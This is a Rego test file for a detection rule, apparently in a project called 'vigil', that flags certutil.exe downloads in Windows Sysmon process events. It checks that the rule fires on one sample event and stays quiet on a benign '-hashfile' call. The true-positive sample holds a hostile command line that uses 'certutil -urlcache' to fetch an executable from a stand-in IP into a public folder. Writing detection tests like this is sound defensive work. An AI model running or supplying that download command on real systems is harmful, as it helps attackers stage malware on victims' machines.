package vigil.detections.windows.certutil_download_test

import data.vigil.detections.windows.certutil_download as det

# true positive: urlcache download
test_fires_urlcache_download if {
	count(det.finding) == 1 with input as {
		"@timestamp": "2024-05-01T10:00:00Z",
		"event": {
			"dataset": "windows.sysmon",
			"module": "windows",
			"action": "process-created",
			"code": "1"
		},
		"host": {
			"name": "ws-17"
		},
		"user": {
			"name": "eve"
		},
		"winlog": {
			"event_id": 1,
			"channel": "Microsoft-Windows-Sysmon/Operational",
			"event_data": {
				"Image": "C:\\Windows\\System32\\certutil.exe",
				"CommandLine": "certutil.exe -urlcache -split -f http://192.0.2.66/p.exe C:\\Users\\Public\\p.exe"
			}
		},
		"process": {
			"name": "certutil.exe",
			"executable": "C:\\Windows\\System32\\certutil.exe",
			"command_line": "certutil.exe -urlcache -split -f http://192.0.2.66/p.exe C:\\Users\\Public\\p.exe"
		}
	}
}

# true negative: certutil -hashfile
test_quiet_certutil_hashfile if {
	count(det.finding) == 0 with input as {
		"@timestamp": "2024-05-01T10:00:00Z",
		"event": {
			"dataset": "windows.sysmon",
			"module": "windows",
			"action": "process-created",
			"code": "1"
		},
		"host": {
			"name": "ws-17"
		},
		"user": {
			"name": "eve"
		},
		"winlog": {
			"event_id": 1,
			"channel": "Microsoft-Windows-Sysmon/Operational",
			"event_data": {
				"Image": "C:\\Windows\\System32\\certutil.exe",
				"CommandLine": "certutil -hashfile setup.exe SHA256"
			}
		},
		"process": {
			"name": "certutil.exe",
			"executable": "C:\\Windows\\System32\\certutil.exe",
			"command_line": "certutil -hashfile setup.exe SHA256"
		}
	}
}
